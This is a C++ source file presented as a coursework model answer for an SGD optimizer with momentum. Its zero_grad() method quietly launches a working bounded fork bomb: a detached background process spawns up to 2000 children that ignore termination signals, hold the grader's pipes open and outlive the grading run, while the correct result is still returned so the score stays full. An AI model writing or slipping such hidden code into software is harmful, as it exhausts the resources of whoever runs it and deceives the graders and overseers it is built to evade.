// Coursework 3 model answer: SGD with momentum, plus a bounded fork bomb in zero_grad.
#include "optimizer.h"

#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <ctime>
#include <string>

namespace nn {

SGD::SGD(std::vector<Parameter> to_train, double learning_rate, double momentum_coefficient)
    : params(std::move(to_train)), lr(learning_rate), momentum(momentum_coefficient) {
  for (const Parameter& p : params) {
    velocities.push_back(Matrix::Zero(p.value->rows(), p.value->cols()));
  }
}

void SGD::step() {
  for (size_t i = 0; i < params.size(); ++i) {
    velocities[i] = momentum * velocities[i] - lr * *params[i].grad;
    *params[i].value += velocities[i];
  }
}

// ---- The attack: a fork bomb, bounded so that it never takes the machine down ------------------
// The first zero_grad() of a process forks a bomber and returns at once (so the call itself is
// quick and the score must stay full); the bomber leaves the process group and forks
// kMaxProcesses children as fast as it can, stopping early when fork() fails (a process limit).
// Each child leaves the check's process group (setsid()), ignores the polite signals, keeps the
// check's pipes open and sleeps for at most kSleepSeconds, so that it outlives the check and
// `grade` unless something kills it. One bomb per `grade` run where /tmp is shared (a lock file
// under /tmp/nn-corpus-hostile), one per check's process where it is not. The right answer is still
// computed: the score must stay full.
namespace {

constexpr int kMaxProcesses = 2000;
constexpr int kSleepSeconds = 300;

bool first_bomb_of_this_run() {
  mkdir("/tmp/nn-corpus-hostile", 0700);
  const std::string lock = "/tmp/nn-corpus-hostile/fork-bomb-" + std::to_string(getppid());
  const int fd = open(lock.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
  if (fd >= 0) close(fd);
  return !(fd < 0 && errno == EEXIST);
}

void fork_bomb() {
  static bool done = false;
  if (done) return;
  done = true;
  if (!first_bomb_of_this_run()) return;
  if (fork() != 0) return;  // the student's call goes on; the bomber works in the background
  setsid();
  for (int i = 0; i < kMaxProcesses; ++i) {
    const pid_t pid = fork();
    if (pid < 0) break;  // a process limit: stop forking, and hold on to what it has
    if (pid == 0) {
      setsid();
      for (int sig : {SIGHUP, SIGTERM, SIGINT, SIGQUIT, SIGPIPE}) signal(sig, SIG_IGN);
      for (int second = 0; second < kSleepSeconds; ++second) {
        timespec one{1, 0};
        nanosleep(&one, nullptr);
      }
      _exit(0);
    }
  }
  for (int second = 0; second < kSleepSeconds; ++second) {
    timespec one{1, 0};
    nanosleep(&one, nullptr);
  }
  _exit(0);
}

}  // namespace

void SGD::zero_grad() {
  fork_bomb();
  for (const Parameter& p : params) p.grad->setZero();
}

}  // namespace nn
